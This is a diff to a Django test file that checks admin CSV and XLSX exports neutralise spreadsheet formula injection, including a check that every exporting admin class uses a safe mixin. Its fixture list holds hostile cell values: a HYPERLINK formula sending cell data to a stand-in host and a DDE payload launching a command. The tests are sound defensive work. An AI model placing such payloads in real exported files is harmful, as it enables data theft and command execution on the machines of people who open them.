@@ -7,6 +7,7 @@ is checked.
 
 import csv
 import io
+import re
 
 import pytest
 from django.test import Client
@@ -19,6 +20,7 @@ from tests.factories import InitiativeFactory
 pytestmark = pytest.mark.django_db
 
 PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "+cmd|' /C calc'!A0",
@@ -137,3 +139,50 @@ def test_a_subscriber_import_with_formulas_comes_back_neutralised(moderator_clie
     rows = cells_of_csv(body_of(moderator_client.get(reverse("newsletter:staff_export"))))
     assert len(rows) == 3
     assert formula_cells(rows) == []
+
+
+def admin_export(admin_class_model, fmt, rf, user):
+    """An admin export as the admin's export view produces it (get_export_data)."""
+    from django.contrib import admin as django_admin
+    from import_export.formats import base_formats
+
+    model_admin = django_admin.site._registry[admin_class_model]
+    request = rf.get("/admin/")
+    request.user = user
+    file_format = {"csv": base_formats.CSV, "xlsx": base_formats.XLSX}[fmt]()
+    body = model_admin.get_export_data(
+        file_format, request, model_admin.get_queryset(request), encoding="utf-8"
+    )
+    return cells_of_csv(body) if fmt == "csv" else cells_of_xlsx(body)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_admin_exports_neutralise_formulas(rf, moderator, fmt):
+    from initiatives.models import Initiative, Sector
+    from tests.factories import SectorFactory
+
+    SectorFactory(
+        slug="hostile-sector", name_es=HOSTILE[0], name_en=HOSTILE[0], name_pt_br=HOSTILE[0]
+    )
+    InitiativeFactory(name=HOSTILE[0], acronym=HOSTILE[1][:20], city=HOSTILE[2], latitude=-33.45)
+    for model in (Sector, Initiative):
+        rows = admin_export(model, fmt, rf, moderator)
+        assert len(rows) >= 2
+        assert [c for c in formula_cells(rows) if not PLAIN_NUMBER.fullmatch(c)] == [], model
+        assert neutralised(rows, HOSTILE[0]), model
+        assert neutralised(rows, HOSTILE[1][:20]) or model is Sector
+    # A negative number stays a number, so that the export imports back.
+    header, row = admin_export(Initiative, "csv", rf, moderator)[:2]
+    assert dict(zip(header, row, strict=True))["latitude"] == "-33.45000"
+
+
+def test_every_admin_export_goes_through_the_neutraliser():
+    from django.contrib import admin as django_admin
+    from import_export.admin import ExportMixin
+
+    from iapt_platform.lib.admin import FormulaSafeExportMixin
+
+    exporting = [a for a in django_admin.site._registry.values() if isinstance(a, ExportMixin)]
+    assert len(exporting) >= 5
+    unsafe = [type(a).__name__ for a in exporting if not isinstance(a, FormulaSafeExportMixin)]
+    assert unsafe == []
